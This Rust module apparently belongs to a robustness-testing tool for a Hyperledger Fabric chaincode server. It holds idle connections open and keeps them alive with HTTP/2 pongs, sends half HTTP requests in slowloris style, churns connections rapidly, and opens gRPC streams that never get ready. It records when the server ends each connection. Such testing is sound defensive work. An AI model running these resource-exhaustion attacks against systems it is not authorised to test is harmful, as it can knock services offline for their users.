//! Attacks with connections and streams that do nothing, or come and go.

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    task::JoinSet,
    time::{Duration, Instant, timeout, timeout_at},
};

use crate::{
    http2, measure,
    peer::{Peer, Target, of, transaction},
    report::{Tally, Told},
};
use cmscc::proto::protos::chaincode_message::Type;

/// Opens connections that say these bytes and nothing more, and sees when the server ends them.
pub(crate) async fn hold(
    target: &Target,
    what: &str,
    count: u32,
    bytes: &[u8],
    lasting: Duration,
) -> anyhow::Result<Told> {
    let tally = held(target, count, bytes, lasting).await;
    let did = format!("{count} connections, {what}, held {} s", lasting.as_secs());
    Ok(Told::new(did, tally.to_string()))
}

/// The same at the operations listener, with half a request.
pub(crate) async fn half_http(
    target: &Target,
    count: u32,
    lasting: Duration,
) -> anyhow::Result<Told> {
    let tally = held(target, count, b"GET /livez HTTP/1.1\r\nHost: lo", lasting).await;
    let answer = match measure::get(target.address, "/livez").await {
        Ok((status, _)) => format!("then /livez {status}"),
        Err(error) => format!("then /livez: {error:#}"),
    };
    let did = format!("{count} half requests, held {} s", lasting.as_secs());
    Ok(Told::new(did, format!("{tally}; {answer}")))
}

async fn held(target: &Target, count: u32, bytes: &[u8], lasting: Duration) -> Tally {
    let mut tally = Tally::default();
    let mut open = JoinSet::new();
    let until = Instant::now() + lasting;
    for _ in 0..count {
        let opened = Instant::now();
        let mut stream = match target.raw().await {
            Ok(stream) => stream,
            Err(error) => {
                tally.failed(format_args!("connecting: {error:#}"));
                continue;
            }
        };
        let bytes = bytes.to_vec();
        open.spawn(async move {
            // a connection that is closed already says so below
            let _ = stream.write_all(&bytes).await;
            let mut said = [0; 1_024];
            let ended = async {
                while let Ok(length @ 1..) = stream.read(&mut said).await {
                    // it is alive, as far as the server can see
                    let pongs = http2::pongs(said.get(..length).unwrap_or_default());
                    let _ = stream.write_all(&pongs).await;
                }
                opened.elapsed()
            };
            timeout_at(until, ended).await.ok()
        });
    }
    while let Some(ended) = open.join_next().await {
        match ended {
            Ok(Some(after)) => tally.closed(after),
            Ok(None) => {}
            Err(error) => tally.failed(error),
        }
    }
    tally
}

/// Opens connections and closes them at once, 64 at a time.
pub(crate) async fn connects(target: &Target, count: u32) -> anyhow::Result<Told> {
    let (mut tally, mut tasks) = (Tally::default(), JoinSet::new());
    let mut take = |done: Result<Result<(), String>, tokio::task::JoinError>| match done {
        Ok(Ok(())) => {}
        Ok(Err(error)) => tally.failed(error),
        Err(error) => tally.failed(error),
    };
    let began = Instant::now();
    for _ in 0..count {
        if tasks.len() >= 64
            && let Some(done) = tasks.join_next().await
        {
            take(done);
        }
        let target = target.clone();
        tasks.spawn(async move {
            let connected = target.raw().await.map(drop);
            connected.map_err(|error| format!("connecting: {error:#}"))
        });
    }
    while let Some(done) = tasks.join_next().await {
        take(done);
    }
    let rate = f64::from(count) / began.elapsed().as_secs_f64();
    Ok(Told::new(
        format!("{count} connects and closes, {rate:.0} a second"),
        tally.to_string(),
    ))
}

/// Opens streams that work, each with a call and on a connection of its own, and holds them.
pub(crate) async fn streams(
    target: &Target,
    count: u32,
    lasting: Duration,
) -> anyhow::Result<Told> {
    let (mut tally, mut open) = (Tally::default(), Vec::new());
    for number in 0..count {
        let opened = Instant::now();
        let stream = async {
            let mut peer = Peer::ready(target).await?;
            let name = b"org.hyperledger.fabric:GetMetadata".as_slice().into();
            let call = transaction("attack", &format!("stream-{number}"), vec![name]);
            peer.call(&call).await?;
            anyhow::Ok(peer)
        };
        match timeout(Duration::from_secs(5), stream).await {
            Ok(Ok(peer)) => open.push((opened, peer)),
            Ok(Err(error)) => tally.failed(format_args!("{error:#}")),
            Err(_) => tally.failed("no stream and answer in time"),
        }
    }
    let working = open.len();
    watch(open, &mut tally, lasting).await;
    let did = format!(
        "{count} streams with a call each, held {} s",
        lasting.as_secs()
    );
    Ok(Told::new(did, format!("{working} worked; {tally}")))
}

/// Opens streams whose peers accept the registration, or leave it unanswered, and never get ready.
pub(crate) async fn unready(
    target: &Target,
    count: u32,
    accepting: bool,
    lasting: Duration,
) -> anyhow::Result<Told> {
    let (mut tally, mut open) = (Tally::default(), Vec::new());
    for _ in 0..count {
        let opened = Instant::now();
        let stream = async {
            let mut peer = Peer::dial(target).await?;
            if accepting {
                peer.accept().await?;
                peer.send(&of(Type::Keepalive)).await?;
            }
            anyhow::Ok(peer)
        };
        match timeout(Duration::from_secs(5), stream).await {
            Ok(Ok(peer)) => open.push((opened, peer)),
            Ok(Err(error)) => tally.failed(format_args!("{error:#}")),
            Err(_) => tally.failed("no stream in time"),
        }
    }
    let what = if accepting {
        "accepted the registration"
    } else {
        "answered nothing"
    };
    let streams = open.len();
    watch(open, &mut tally, lasting).await;
    let did = format!(
        "{count} streams whose peer {what}, held {} s",
        lasting.as_secs()
    );
    Ok(Told::new(did, format!("{streams} opened; {tally}")))
}

/// Sees when the server ends streams.
async fn watch(open: Vec<(Instant, Peer)>, tally: &mut Tally, lasting: Duration) {
    let until = Instant::now() + lasting;
    let mut tasks = JoinSet::new();
    for (opened, mut peer) in open {
        tasks.spawn(async move {
            let ended = async {
                while peer.next().await.is_ok() {}
                opened.elapsed()
            };
            timeout_at(until, ended).await.ok()
        });
    }
    while let Some(ended) = tasks.join_next().await {
        match ended {
            Ok(Some(after)) => tally.closed(after),
            Ok(None) => {}
            Err(error) => tally.failed(error),
        }
    }
}
